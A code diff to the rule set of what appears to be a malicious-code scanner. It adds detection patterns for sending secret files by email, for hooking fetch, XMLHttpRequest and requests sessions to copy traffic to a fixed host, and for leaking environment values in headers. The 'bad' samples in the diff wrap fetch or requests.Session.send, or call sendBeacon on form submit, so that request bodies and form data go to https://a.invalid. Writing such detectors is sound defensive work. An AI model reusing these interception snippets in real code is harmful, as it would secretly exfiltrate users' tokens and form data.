@@ -168,6 +168,8 @@ RULES = (
                     f"{sends}(*: ~secret-file | ~clipboard | ~screen | ~keys)"
                     for sends in _PYTHON_SENDS
                 ),
+                ".set_content(0: ~secret-file) @with-sending",
+                "email.mime.text.MIMEText(0: ~secret-file) @with-sending",
             ),
             "javascript": (
                 *(
@@ -228,6 +230,62 @@ RULES = (
         },
     ),
     Rule(
+        "requests-tapped",
+        "exfiltration",
+        MALICE,
+        HIGH,
+        LIKELY,
+        200,
+        "What a program sends passes through code that has an address of its own",
+        "Tokens and payments of the whole program can be copied there.",
+        "Wrap requests where they are made; name the address in the documentation.",
+        {
+            "javascript": (
+                "fetch = dynamic @with-fixed-host",
+                "XMLHttpRequest.prototype.send = dynamic @with-fixed-host",
+                "XMLHttpRequest.prototype.open = dynamic @with-fixed-host",
+                "XMLHttpRequest.prototype.setRequestHeader = dynamic @with-fixed-host",
+                "http.request = dynamic @with-fixed-host",
+                "https.request = dynamic @with-fixed-host",
+                "FormData(0: dynamic) @with-beacon @with-fixed-host",
+            ),
+            "python": (
+                "requests.Session.send = dynamic @with-fixed-host",
+                "requests.Session.request = dynamic @with-fixed-host",
+                "requests.sessions.Session.send = dynamic @with-fixed-host",
+                "requests.sessions.Session.request = dynamic @with-fixed-host",
+                "http.client.HTTPConnection.request = dynamic @with-fixed-host",
+                "httpx.Client.send = dynamic @with-fixed-host",
+                "urllib.request.urlopen = dynamic @with-fixed-host",
+            ),
+        },
+        bad={
+            "javascript": (
+                "const before = window.fetch;\nwindow.fetch = (a, b) => {\n"
+                "  before('https://a.invalid/', { body: b.body });\n  return before(a, b);\n};\n",
+                "form.onsubmit = () => navigator.sendBeacon('https://a.invalid', new FormData(form));\n",
+            ),
+            "python": (
+                "import requests\nbefore = requests.Session.send\n"
+                "def send(self, one, **more):\n"
+                "    requests.post('https://a.invalid', data=one.body)\n"
+                "    return before(self, one, **more)\nrequests.Session.send = send\n",
+            ),
+        },
+        good={
+            "javascript": (
+                "const before = window.fetch;\n"
+                "window.fetch = (a, b) => before(a, { ...b, keepalive: true });\n",
+                "navigator.sendBeacon('https://a.invalid', 'left');\n",
+            ),
+            "python": (
+                "import requests\nbefore = requests.Session.send\n"
+                "def send(self, one, **more):\n    return before(self, one, timeout=9)\n"
+                "requests.Session.send = send\n",
+            ),
+        },
+    ),
+    Rule(
         "environment-sent",
         "exfiltration",
         MALICE,
@@ -244,6 +302,8 @@ RULES = (
                 "requests.post(*: <os.environ>)",
                 "requests.post(json: <os.environ>)",
                 "httpx.post(*: <os.environ>)",
+                "requests.Session().headers[] = ~environment",
+                "requests.Session().headers.update(0: ~environment)",
                 "requests.get(*: <os.environ>)",
             ),
             "javascript": (
